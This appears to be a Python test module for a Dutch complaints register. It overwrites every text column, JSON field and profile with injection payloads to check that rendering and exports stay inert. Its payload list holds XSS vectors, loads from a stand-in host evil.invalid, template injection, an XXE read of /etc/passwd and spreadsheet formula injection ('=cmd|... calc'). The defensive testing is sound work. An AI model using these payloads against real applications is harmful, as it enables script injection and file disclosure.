"""What somebody could type to become more than text, and a register in which every text holds it.

Which columns hold text is read from the metadata: a new one is included by itself, and one that must not be filled stands
in `NOT_TYPED` with its reason.
"""

from __future__ import annotations

import json
import tomllib
from collections.abc import Iterator
from datetime import date
from itertools import count
from typing import Any
from uuid import uuid4

from sqlalchemy import JSON, Column, Connection, Engine, String, Table, Text, select, text, update

from db import models as m
from db.profiles import parse
from domain.mapping import ColumnMap
from domain.vocabulary import EventKind, Outcome
from services import (
    appeals,
    attachments,
    calendar_days,
    drafts,
    evaluation_sources,
    mappings,
    review_items,
    reviews,
    steps,
    year_report_writing,
    year_reports,
)
from services.parties import Named
from services.steps import MeasureInput, PartInput
from tests import evaluating
from tests.cases import LONG_AGO, Case
from tests.conftest import CAST, TODAY, Cast

PAYLOADS = (
    # HTML that does something
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script href='https://evil.invalid/3.js'/></svg>",
    '"><script src=https://evil.invalid/4.js></script>',
    "' onmouseover='alert(4)' x='",
    "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
    "<iframe src=https://evil.invalid/frame></iframe>",
    "<a href='javascript:alert(6)'>hier</a>",
    "<style>@import 'https://evil.invalid/7.css';</style>",
    "<link rel=stylesheet href=https://evil.invalid/8.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>Aanmelden</button></form>",
    "<math><mtext><img src=x onerror=alert(9)></mtext></math>",
    "<details open ontoggle=alert(10)>",
    "<video src=https://evil.invalid/11.mp4 autoplay>",
    "<!-- --><b>vet</b><!--",
    "&lt;script&gt;alert(12)&lt;/script&gt; &amp; &#60;b&#62; &nbsp;",
    "</textarea><script>alert(13)</script>",
    "</title><script>alert(14)</script>",
    "<x-weerklank onclick=alert(15)>",
    # Addresses
    "javascript:alert(16)",
    "[hier](javascript:alert(17))",
    "[hier](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[hier](vbscript:msgbox(1)) [daar](//evil.invalid)",
    "![baken](https://evil.invalid/pixel.png)",
    "![baken][1]\n\n[1]: https://evil.invalid/pixel.png",
    "<https://evil.invalid/auto> https://evil.invalid/kaal www.evil.invalid",
    "mailto:evil@evil.invalid evil@evil.invalid <evil@evil.invalid>",
    "[^1] voetnoot\n\n[^1]: noot",
    "[ ] niet gedaan - [x] gedaan",
    # Markdown
    "# Kop\n## Kop",
    "Kop\n===",
    "**vet** __vet__ *schuin* _schuin_ ~~door~~",
    "`code` ``code`` ```python\nalert(1)\n```",
    "    vier spaties",
    "> aangehaald\n>> nog eens",
    "- punt\n* punt\n+ punt\n1. een\n2) twee",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b \\| c ||",
    "---\n***\n___",
    "regel  \nregel\\\nregel",
    "\\*geen schuin\\* \\\\ \\`",
    # What Streamlit adds to it
    ":material/home: :material/evil_sign:",
    ":smile: :heart: :+1: :streamlit:",
    ":red[rood] :blue-background[blauw] :rainbow[boog] :gray[grijs]",
    ":green-badge[goed] :small[klein] :orange-badge[:material/check: ja]",
    ':color[rood]{foreground="red"} :shortcut[Ctrl]',
    "$x^2$ $$\\frac{1}{2}$$ \\(x\\) \\[x\\] \\href{javascript:alert(1)}{x}",
    "<- -> <-> -- >= <= ~= ...",
    # Letters, templates, exports
    '#read("/etc/passwd") #image("/etc/passwd") #include "x.typ"',
    '#let x = 1; #set page(fill: red) #eval("1+1") #link("https://evil.invalid")[x]',
    "*vet* _schuin_ @ref <label> = kop $ 1 $ // weg /* weg */",
    "{{ 7*7 }} {% raw %} {# weg #} {{ config }} {%p if x %}",
    "{organisation} {reference} {0} %(x)s %s ${x} $reference",
    "]]></w:t></w:r><w:p><w:r><w:t>ingevoegd</w:t></w:r></w:p><![CDATA[",
    "<w:altChunk r:id='rId1'/> <?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '=HYPERLINK("https://evil.invalid","klik")',
    "\u202eelbaeerno\u202c \u2066los\u2069 =cmd|' /C calc'!A0",
)

# Text columns in which nobody types: what stands in them comes from a list, or is no words at all.
NOT_TYPED = {
    "account.password_hash": "a hash",
    "second_factor.secret": "made by us",
    "second_factor.pending": "made by us",
    "org_unit.kind": "from a list",
    "org_unit.sector": "from the profile's list",
    "profile_version.source": "replaced as a whole: see hostile_profile",
    "evaluation.why.reason": "which rule proposed it: domain.evaluations.Reason",
    **dict.fromkeys((f"evaluation_source.rule.{each}" for each in ("at_most", "lowest", "highest")), "a number"),
}
# JSON in which nobody types.
CODED = {"event.codes", "appeal_snapshot.promises", "appeal_snapshot.measures"}
# JSON of which a text that is longer than a line is refused when it is read.
SHORT = {"evaluation_source.columns", "evaluation_source.rule", "import_mapping.columns"}
# Of JSON, the keys whose text comes from a list or names something.
KEYS = {"profile", "compartment", "kind", "status", "procedure", "overlay", "channel", "subject_type", "sector", "discussed"}
KEYS |= {"ladder_level", "external_stage", "outcome", "close_reason", "satisfied", "reference", "form_id", "ack_variant"}
KEYS |= {"next_promise", "preferred_channel", "type", "privacy_version_on", "privacy_url", "website"}


class Texts:
    """Hands out texts, each with a mark of its own at its end, and remembers where each went."""

    def __init__(self, turn: int, together: int) -> None:
        self._number = count(turn)
        self._together = together
        self.given: dict[str, str] = {}  # by mark
        self.places: dict[str, set[str]] = {}  # marks by column

    def next(self, place: str, lines: bool, together: int | None = None) -> str:
        """The next payloads of the list for this place; line by line where somebody can type lines."""
        number = next(self._number)
        chosen = [PAYLOADS[(number + step) % len(PAYLOADS)] for step in range(together or self._together)]
        mark = f"q{uuid4().hex[:8]}z"
        words = "\n".join([*chosen, mark]) if lines else " ".join(" ".join([*chosen, mark]).split("\n"))
        self.given[mark] = words
        self.places.setdefault(place, set()).add(mark)
        return words


def text_columns(metadata: Any = m.Base.metadata) -> Iterator[Column[Any]]:
    """Every column in which words may stand; codes are shorter (db/base.py)."""
    for table in metadata.sorted_tables:
        for column in table.columns:
            typed = isinstance(column.type, String) and column.type.length in (None, 200)
            if typed and f"{table.name}.{column.name}" not in NOT_TYPED and not column.foreign_keys:
                yield column


def json_columns(metadata: Any = m.Base.metadata) -> Iterator[Column[Any]]:
    for table in metadata.sorted_tables:
        yield from (each for each in table.columns if isinstance(each.type, JSON) and f"{table.name}.{each.name}" not in CODED)


def make_hostile(engine: Engine, texts: Texts) -> None:
    """Every word in the register becomes a payload, past the services: what refuses it at the door is tested there."""
    with engine.begin() as connection:
        for name in connection.scalars(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
            connection.exec_driver_sql(f'DROP TRIGGER "{name}"')
        for column in text_columns():
            _fill(connection, column, texts)
        for column in json_columns():
            _fill_json(connection, column, texts)
        versions = connection.execute(select(m.ProfileVersion.id, m.ProfileVersion.source)).all()
        for key, source in versions:
            changed = hostile_profile(source, texts)
            connection.execute(update(m.ProfileVersion).where(m.ProfileVersion.id == key).values(source=changed))


def _rows(connection: Connection, column: Column[Any]) -> list[tuple[dict[str, Any], Any]]:
    table: Table = column.table
    keys = list(table.primary_key.columns)
    return [
        (dict(zip([key.name for key in keys], row[:-1], strict=True)), row[-1])
        for row in connection.execute(select(*keys, column).where(column.is_not(None))).all()
    ]


def _fill(connection: Connection, column: Column[Any], texts: Texts) -> None:
    table: Table = column.table
    for key, _ in _rows(connection, column):
        where = [table.c[name] == value for name, value in key.items()]
        words = texts.next(
            f"{table.name}.{column.name}", isinstance(column.type, Text), None if isinstance(column.type, Text) else 2
        )
        connection.execute(update(table).where(*where).values({column.name: words}))


def _fill_json(connection: Connection, column: Column[Any], texts: Texts) -> None:
    table: Table = column.table
    place = f"{table.name}.{column.name}"
    for key, value in _rows(connection, column):
        if table.name == "setting" and key["key"] in KEYS:
            continue
        where = [table.c[name] == each for name, each in key.items()]
        connection.execute(update(table).where(*where).values({column.name: _replaced(value, place, texts)}))


def _replaced(value: Any, place: str, texts: Texts, key: str = "") -> Any:
    match value:
        case dict():
            return {name: _replaced(each, place, texts, str(name)) for name, each in value.items()}
        case list():
            return [_replaced(each, place, texts, key) for each in value]
        case str() if value and key not in KEYS and f"{place}.{key}" not in NOT_TYPED and not key.endswith(("_on", "_at")):
            while place in SHORT and len(words := texts.next(place, lines=False, together=1)) > 80:
                continue
            return words if place in SHORT else texts.next(place, key in LONG)
    return value


# A profile


LONG = {"text", "explanation", "does", "conditions", "costs", "description", "remedy_requested", "immediate_actions", "address"}
_WORDS = {
    "label",
    "title",
    "text",
    "explanation",
    "does",
    "conditions",
    "costs",
    "source",
    "name",
    "subcategories",
    "functions",
}


def hostile_profile(source: str, texts: Texts) -> str:
    """The same procedure in other words; raises where it would no longer be a profile."""
    changed = _worded(tomllib.loads(source), texts, ())
    written = "\n".join(_toml(changed))
    parse(written)
    return written


def _worded(value: Any, texts: Texts, path: tuple[str, ...]) -> Any:
    match value:
        case dict():
            return {name: _worded(each, texts, (*path, name)) for name, each in value.items()}
        case list():
            return [_worded(each, texts, path) for each in value]
        case str() if path[-1] in _WORDS and path != ("name",):
            while len(words := texts.next(f"profile.{'.'.join(path)}", path[-1] in LONG, 1).strip()) > 200:
                continue
            return words
    return value


def _toml(table: dict[str, Any], path: str = "") -> Iterator[str]:
    """Enough of TOML for a profile."""
    nested = {name: each for name, each in table.items() if isinstance(each, list) and each and isinstance(each[0], dict)}
    for name, value in table.items():
        if name not in nested:
            yield f"{name} = {_toml_value(value)}"
    for name, rows in nested.items():
        for row in rows:
            yield f"[[{path}{name}]]"
            yield from _toml(row, f"{path}{name}.")


def _toml_value(value: Any) -> str:
    match value:
        case bool():
            return str(value).lower()
        case str():
            return json.dumps(value, ensure_ascii=True)
        case list():
            return f"[{', '.join(_toml_value(each) for each in value)}]"
        case dict():
            return "{" + ", ".join(f"{json.dumps(name)} = {_toml_value(each)}" for name, each in value.items()) + "}"
    return str(value)


# A register with something in every table


def filled(cast: Cast, engine: Engine) -> dict[str, str]:
    """Dossiers on their way through every state, by name: their references."""
    adam, cora, tom = cast.actor("adam"), cast.actor("cora"), cast.actor("tom")
    calendar_days.add_closing(adam, TODAY, TODAY, "Verbouwing")
    calendar_days.add_decree_day(adam, TODAY.replace(year=2027), "Extra dag", "Staatscourant")
    new = Case.registered("training", cast, **_everything(cast))
    attachments.add(cora, new.reference, [("brief.txt", b"hallo")])
    working = Case.registered("training", cast, **_everything(cast)).in_progress()
    for kind, more in ((EventKind.NOTE, {}), (EventKind.MESSAGE_RECEIVED, {"subject": "Vraag"}), (EventKind.CONTACT, {})):
        steps.log(cora, working.reference, kind, TODAY, "Iets.", **more)
    attachments.add(cora, working.reference, [("foto.txt", b"hallo daar")])
    working.refer().climb()
    answered = Case.registered("training", cast, received_on=LONG_AGO, **_everything(cast)).in_progress()
    taken = tuple(MeasureInput(f"Maatregel {n}", cast["cora"], answered.at(10 + n)) for n in range(2))
    hans = cast.actor("hans")
    steps.decide(hans, answered.reference, answered.seen, answered.at(3), Outcome.UPHELD, "Het rooster.", taken)
    answered.answer()
    answered.measure_done(months=1).measure_effect()
    steps.close(cora, answered.reference, answered.seen, "accepted", parts=(PartInput("Het wachten", "upheld"),))
    decided = Case.registered("training", cast, **_everything(cast)).decided(1)
    appealed = Case.registered("training", cast, **_everything(cast)).answered(1)
    attachments.add(cora, appealed.reference, [("bewijs.txt", b"hallo ook")])
    appeals.lodge(cora, str(uuid4()), appealed.reference, None, TODAY, "email", "Het klopt niet.")
    drafts.keep(tom, "intake", {"description": "Begonnen", "title": "Begonnen"})
    _of_the_year(cast, working.reference)
    found = {"new": new, "working": working, "closed": answered, "decided": decided, "appealed": appealed}
    return {name: case.reference for name, case in found.items()}


def _of_the_year(cast: Cast, reference: str) -> None:
    """A yearly review, a report that is being written, forms that wait and were dismissed, a mapping of an old register."""
    cora, since = cast.actor("cora"), TODAY.replace(month=1, day=1)
    review = reviews.begin(cora, str(uuid4()), since, TODAY, [cast["piet"]])
    reviews.note_down(cora, review, 1, "Eerder bellen.", "Iedereen was er.")
    agreed: dict[str, Any] = {
        "action": "Bellen",
        "why": "Vaker",
        "owner_id": cast["tom"],
        "due_on": TODAY,
        "note": "Besproken.",
    }
    review_items.answer(cora, reference, review, 1, extra_action=True, **agreed)
    Case.registered("training", cast, received_on=date(TODAY.year - 1, 12, 1))
    (line,) = year_reports.listing(cora).lines
    maker = next(cast.actor(name) for name, (shown, _, _) in CAST.items() if shown == line.makers[0])
    for each in year_reports.read(maker, line.year).texts:
        year_report_writing.write(maker, line.year, each.key, each.version, "Wij luisteren.")
    rule = {"lowest": 1, "highest": 5, "words": ["koud"]}
    source = evaluation_sources.save(cora, "Enquête", ColumnMap(evaluating.COLUMNS), rule=rule)
    rows = [(f"F-{n}", "2026-11-02", "Basis", "2", "De zaal was koud", "Jo Jansen", "Een ander") for n in range(2)]
    evaluating.bring(cast, source, rows)
    evaluating.dismiss(cast, evaluating.waiting(cast)[0].id)
    mappings.save(cora, "Oude lijst", ColumnMap({"received": "Datum", "about": "Wat"}))


def _everything(cast: Cast) -> dict[str, Any]:
    return {
        "remedy_requested": "Excuses",
        "immediate_actions": "Gebeld",
        "complainant_type": "representative",
        "representative_of": "Moeder",
        "respondents": (Named(name="Iemand"), Named(account_id=cast["rosa"])),
        "subcategory": None,
    }
